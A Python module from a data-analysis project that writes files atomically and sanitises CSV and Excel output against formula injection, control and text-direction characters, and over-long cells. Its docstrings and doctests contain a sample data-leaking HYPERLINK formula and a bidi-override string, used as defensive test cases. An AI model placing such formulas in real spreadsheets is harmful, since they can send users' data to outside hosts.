"""Writing files, always atomically, and spreadsheet files that cannot run anything.

An interrupted run never leaves a half-written file under the final name
(a temporary file in the same folder, then rename).

Every CSV and Excel file the project writes goes through this module, so the
safety rules live in one place:

* **No live formulas** (OWASP "CSV injection"). A text cell whose first
  visible character is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  (or a full-width or small form of ``= + - @``, or the minus sign U+2212)
  could be run by Excel or LibreOffice. In a CSV such a cell is written with
  a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as
  text. In an ``.xlsx`` it is written as a typed string with Excel's "quote
  prefix" set, so the text is shown exactly and stays text even when the
  cell is edited. Numbers are never touched: ``-2`` in a numeric column stays
  the number -2.
* **No characters a spreadsheet cannot hold or that disguise text.** Control
  characters (except tab, line feed and carriage return), DEL and C1
  controls, bidirectional embedding, override and isolate characters
  (U+202A-U+202E, U+2066-U+2069), lone surrogates and the non-characters
  U+FFFE/U+FFFF are replaced with U+FFFD (the visible replacement character).
  openpyxl refuses the C0 controls outright, so without this a name holding
  one would make the whole file fail.
* **No cell longer than Excel allows.** Excel holds at most 32,767
  characters (UTF-16 code units) in a cell and reports a longer one as a
  damaged workbook; such text is cut, ending with an ellipsis, in ``.xlsx``.
  (openpyxl itself cuts at 32,767 code points, silently, when a cell is
  set; text beyond the Basic Multilingual Plane, e.g. emoji, counts twice.)

Each change is described in a note naming the cell (``"organisations.csv,
line 3, column 'org_name': ..."``). Pass ``notes=[]`` to collect the notes
(and show them to the user yourself); without it they are issued as one
:class:`SpreadsheetTextWarning` per file.
"""

from __future__ import annotations

import contextlib
import io
import os
import re
import tempfile
import unicodedata
import warnings
import zipfile
from collections.abc import Iterable, Mapping
from pathlib import Path

import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.cell.rich_text import CellRichText
from openpyxl.utils import get_column_letter
from openpyxl.utils.cell import range_boundaries

from qio_analysis.errors import QioConfigError, QioWarning

#: Characters replaced in every text cell (see the module docstring).
UNSAFE_CHARACTERS_RE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]"
)
REPLACEMENT = "\ufffd"
#: The most characters (UTF-16 code units) an Excel cell holds.
MAX_CELL_CHARS = 32_767
#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\u2212")
#: Invisible or blank characters a trigger could hide behind.
_LEADING_BLANKS_RE = re.compile(r"^[\s\u200b-\u200d\u2060\ufeff]+")


_WHAT = "Text from the data was changed so that the spreadsheet is safe to open"


class SpreadsheetTextWarning(QioWarning):
    """Text from data was changed so that a written spreadsheet is safe (the message says where)."""


# ------------------------------------------------------------------ cell rules


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula.

    >>> [is_formula_like(t) for t in ("=1+1", "+44 20", "-2+3", "@SUM(A1)", " =1", "\\uff1d1", "A-1")]
    [True, True, True, True, True, True, False]
    """
    if not text:
        return False
    first = text[0]
    if first in FORMULA_TRIGGERS:
        return True
    visible = _LEADING_BLANKS_RE.sub("", text)
    first = visible[:1]
    return bool(first) and (
        first in FORMULA_TRIGGERS or unicodedata.normalize("NFKC", first) in FORMULA_TRIGGERS
    )


def clean_text(text: str) -> tuple[str, int]:
    """``text`` with unsafe characters replaced by U+FFFD, and how many were replaced.

    >>> clean_text("Trust\\x07 \\u202eevil")
    ('Trust\\ufffd \\ufffdevil', 2)
    """
    return UNSAFE_CHARACTERS_RE.subn(REPLACEMENT, text)


def neutralise_text(text: str) -> str:
    """A text cell as written to CSV: unsafe characters replaced, formula-like text prefixed with ``'``, CR as LF.

    >>> neutralise_text('=HYPERLINK("http://x?leak="&A1,"x")')
    '\\'=HYPERLINK("http://x?leak="&A1,"x")'
    >>> neutralise_text("Leeds Teaching Hospitals")
    'Leeds Teaching Hospitals'
    """
    cleaned, _ = clean_text(text)
    return _csv_text(cleaned)


def _csv_text(cleaned: str) -> str:
    """The CSV form of cleaned text: formula-like text prefixed, line breaks as LF.

    A bare CR is not quoted by the CSV writer and would start a new row in Excel
    (a way round the prefix); as LF the cell is quoted and stays one cell.
    """
    prefix = "'" if is_formula_like(cleaned) else ""
    return prefix + cleaned.replace("\r\n", "\n").replace("\r", "\n")


def fit_cell(text: str) -> str:
    """``text`` cut to fit one Excel cell (:data:`MAX_CELL_CHARS`), ending with an ellipsis.

    >>> len(fit_cell("x" * 40_000)), fit_cell("x" * 40_000)[-2:], fit_cell("short")
    (32767, 'x\u2026', 'short')
    """
    if len(text) <= MAX_CELL_CHARS // 2:  # fast path: cannot exceed the limit in UTF-16
        return text
    units = text.encode("utf-16-le", errors="surrogatepass")
    if len(units) // 2 <= MAX_CELL_CHARS:
        return text
    kept = units[: (MAX_CELL_CHARS - 1) * 2].decode("utf-16-le", errors="ignore")
    return kept + "\u2026"


def _cut_note(where: str) -> str:
    return (
        f"{where}: text longer than an Excel cell holds ({MAX_CELL_CHARS:,} characters); "
        "cut, ending with \u2026"
    )


def _replaced_note(where: str, count: int) -> str:
    return (
        f"{where}: {count} control or text-direction character(s) replaced with \ufffd "
        "(a spreadsheet cannot hold them, or they could disguise the text)"
    )


def _formula_note(where: str, text: str) -> str:
    shown = text if len(text) <= 40 else text[:37] + "..."
    return f"{where}: text {shown!r} starts like a formula; written as text, never run"


def _report(notes: list[str] | None, found: list[str], what: str) -> None:
    if notes is not None:
        notes.extend(found)
    elif found:
        more = f" (and {len(found) - 5} more)" if len(found) > 5 else ""
        warnings.warn(
            SpreadsheetTextWarning(f"{what}: " + "; ".join(found[:5]) + more), stacklevel=3
        )


# ------------------------------------------------------------------ files


def write_bytes_atomic(path: str | os.PathLike[str], data: bytes) -> Path:
    """Write ``data`` to ``path`` atomically, creating parent folders."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
        Path(tmp).chmod(0o644)
        Path(tmp).replace(path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            Path(tmp).unlink()
        raise
    return path


def write_text_atomic(path: str | os.PathLike[str], text: str) -> Path:
    """Write UTF-8 text atomically."""
    return write_bytes_atomic(path, text.encode("utf-8"))


# ------------------------------------------------------------------ CSV


def safe_csv_frame(frame: pd.DataFrame, notes: list[str] | None = None) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and text column names) are neutralised for CSV.

    Only ``str`` values change; numbers, dates, booleans and missing values are
    left exactly as they are. Line breaks inside a text cell are written as LF
    (so the cell is quoted). Notes are appended to ``notes`` when given.
    """
    found: list[str] = []

    def fix(value: object, where: str) -> object:
        if not isinstance(value, str):
            return value
        cleaned, count = clean_text(value)
        if count:
            found.append(_replaced_note(where, count))
        if is_formula_like(cleaned):
            found.append(_formula_note(where, cleaned))
        return _csv_text(cleaned)

    columns = [fix(c, f"header, column {i + 1}") for i, c in enumerate(frame.columns)]
    out = frame.set_axis(columns, axis=1)
    for position, column in enumerate(frame.columns):
        series = frame.iloc[:, position]
        if series.dtype.kind in "biufcmM":
            continue
        values = series.astype(object).tolist()
        fixed = [fix(v, f"line {row + 2}, column {str(column)!r}") for row, v in enumerate(values)]
        if any(a is not b for a, b in zip(values, fixed, strict=True)):
            column_values = pd.Series(fixed, index=frame.index, dtype=object)
            # pandas takes a Series here; pandas-stubs 3.1 lists array-likes and scalars only.
            out.isetitem(position, column_values)  # type: ignore[arg-type]
    if notes is not None:
        notes.extend(found)
    return out


def csv_bytes(frame: pd.DataFrame, *, notes: list[str] | None = None) -> bytes:
    """A frame as safe CSV bytes (UTF-8, no index, LF line endings; see the module docstring)."""
    found: list[str] = []
    safe = safe_csv_frame(frame, found)
    _report(notes, found, _WHAT)
    return safe.to_csv(index=False, lineterminator="\n").encode("utf-8")


def write_csv_atomic(
    path: str | os.PathLike[str], frame: pd.DataFrame, *, notes: list[str] | None = None
) -> Path:
    """Write a frame as safe CSV atomically (notes name the file)."""
    found: list[str] = []
    data = csv_bytes(frame, notes=found)
    name = Path(path).name
    _report(notes, [f"{name}, {n}" for n in found], _WHAT)
    return write_bytes_atomic(path, data)


# ------------------------------------------------------------------ Excel


def xlsx_bytes(
    sheets: Mapping[str, pd.DataFrame | list[list[object]]], *, notes: list[str] | None = None
) -> bytes:
    """Safe workbook bytes written with openpyxl, deterministic for identical input.

    Each value is a frame (header row plus data) or a list of raw rows, which
    lets the demo generator add title rows above the header as real exports do.
    Text cells are typed strings (see the module docstring); no cell is a formula.
    """
    found: list[str] = []
    book = Workbook()
    book.remove(book.active)
    for name, content in sheets.items():
        sheet = book.create_sheet(name)
        rows = (
            [
                list(content.columns),
                *content.astype(object).where(content.notna(), None).to_numpy().tolist(),
            ]
            if isinstance(content, pd.DataFrame)
            else content
        )
        for r, row in enumerate(rows, start=1):
            values = list(row)
            for c, value in enumerate(values):
                if isinstance(value, str):
                    where = f"sheet {name!r}, cell {get_column_letter(c + 1)}{r}"
                    values[c], count = clean_text(value)
                    if count:
                        found.append(_replaced_note(where, count))
                    # Cut here, with a note: openpyxl would cut silently (and by characters,
                    # not the UTF-16 units Excel counts).
                    fitted = fit_cell(values[c])
                    if fitted is not values[c]:
                        found.append(_cut_note(where))
                        values[c] = fitted
            sheet.append(values)
    book.properties.created = pd.Timestamp(_FIXED_STAMP).to_pydatetime()
    book.properties.creator = "qio-analysis"
    found += _neutralise_workbook(book, ())
    _report(notes, found, _WHAT)
    return _save(book, _FIXED_STAMP)


def workbook_bytes(
    book: Workbook, *, formulas: Iterable[str] = (), notes: list[str] | None = None
) -> bytes:
    """Bytes of an openpyxl ``Workbook`` built elsewhere, neutralised first (in place).

    ``formulas`` lists the cells that may hold a formula the project wrote on
    purpose, as sheet-qualified references or ranges (``"Summary!B2"``,
    ``"'Level counts'!C2:H7"``). Every other formula cell becomes a typed
    string showing its text; every text cell is cleaned and formula-like text
    gets the quote prefix. Zip entries and the modified time are fixed (to the
    workbook's created time), so identical content gives identical bytes.
    """
    found = _neutralise_workbook(book, formulas)
    _report(notes, found, _WHAT)
    created = book.properties.created
    stamp = (
        pd.Timestamp(created).strftime("%Y-%m-%dT%H:%M:%SZ")
        if created is not None
        else _FIXED_STAMP
    )
    return _save(book, stamp)


def write_workbook_atomic(
    path: str | os.PathLike[str],
    book: Workbook,
    *,
    formulas: Iterable[str] = (),
    notes: list[str] | None = None,
) -> Path:
    """Neutralise and save an openpyxl ``Workbook`` atomically (see :func:`workbook_bytes`)."""
    found: list[str] = []
    data = workbook_bytes(book, formulas=formulas, notes=found)
    name = Path(path).name
    _report(notes, [f"{name}, {n}" for n in found], _WHAT)
    return write_bytes_atomic(path, data)


def _allowed_cells(formulas: Iterable[str]) -> dict[str, list[tuple[int, int, int, int]]]:
    allowed: dict[str, list[tuple[int, int, int, int]]] = {}
    for ref in formulas:
        sheet, sep, cells = ref.rpartition("!")
        if not sep or not sheet:
            raise QioConfigError(
                f"Formula cells must name their sheet, like 'Summary!B2', not {ref!r}."
            )
        if sheet.startswith("'") and sheet.endswith("'"):
            sheet = sheet[1:-1].replace("''", "'")
        allowed.setdefault(sheet, []).append(range_boundaries(cells))
    return allowed


def _neutralise_workbook(book: Workbook, formulas: Iterable[str]) -> list[str]:
    """Make every cell of ``book`` safe in place; return notes on what changed."""
    allowed = _allowed_cells(formulas)
    found: list[str] = []
    # Document properties (title, keywords...) often hold names from data too; XML
    # cannot hold the characters clean_text replaces, so a bad one spoils the whole file.
    props = book.properties
    for field in ("title", "subject", "creator", "keywords", "description", "category"):
        value = getattr(props, field, None)
        if isinstance(value, str):
            cleaned, count = clean_text(value)
            if count:
                found.append(_replaced_note(f"document property {field!r}", count))
                setattr(props, field, cleaned)
    for sheet in book.worksheets:
        boxes = allowed.get(sheet.title, [])
        # The stored cells only: iter_rows() would create empty ones across the used range.
        for _, cell in sorted(sheet._cells.items()):
            _neutralise_cell(cell, f"sheet {sheet.title!r}, cell {cell.coordinate}", boxes, found)
    return found


def _neutralise_cell(
    cell: Cell, where: str, boxes: list[tuple[int, int, int, int]], found: list[str]
) -> None:
    value = cell.value
    if value is None or cell.data_type in {"n", "b", "d", "e"}:
        return
    if cell.data_type == "f":
        col, row = cell.column, cell.row
        if any(c1 <= col <= c2 and r1 <= row <= r2 for c1, r1, c2, r2 in boxes):
            return
        text = value if isinstance(value, str) else str(getattr(value, "text", value))
        found.append(_formula_note(where, text))
        _set_text(cell, fit_cell(clean_text(text)[0]))
        return
    if isinstance(value, CellRichText):
        value = str(value)
    if isinstance(value, str):
        cleaned, count = clean_text(value)
        if count:
            found.append(_replaced_note(where, count))
        fitted = fit_cell(cleaned)
        if fitted is not cleaned:
            found.append(_cut_note(where))
        if count or fitted is not cleaned or is_formula_like(cleaned):
            _set_text(cell, fitted)


def _set_text(cell: Cell, text: str) -> None:
    """Store ``text`` as a typed string, quote-prefixed when it looks like a formula."""
    cell.value = text  # openpyxl guesses the type (a leading "=" becomes a formula) ...
    cell.data_type = "s"  # ... so the type is then set explicitly
    if is_formula_like(text):
        cell.quotePrefix = True


_FIXED_STAMP = "2025-01-01T00:00:00Z"


def _save(book: Workbook, stamp: str) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return _deterministic_zip(buffer.getvalue(), stamp)


def _deterministic_zip(data: bytes, stamp: str = _FIXED_STAMP) -> bytes:
    """Rewrite an .xlsx so identical content gives identical bytes.

    openpyxl stamps the save time into docProps/core.xml and every zip entry.
    """
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                    rb"\g<1>" + stamp.encode() + rb"\g<2>",
                    content,
                )
            entry = zipfile.ZipInfo(info.filename, date_time=(2025, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o644 << 16
            target.writestr(entry, content)
    return out.getvalue()
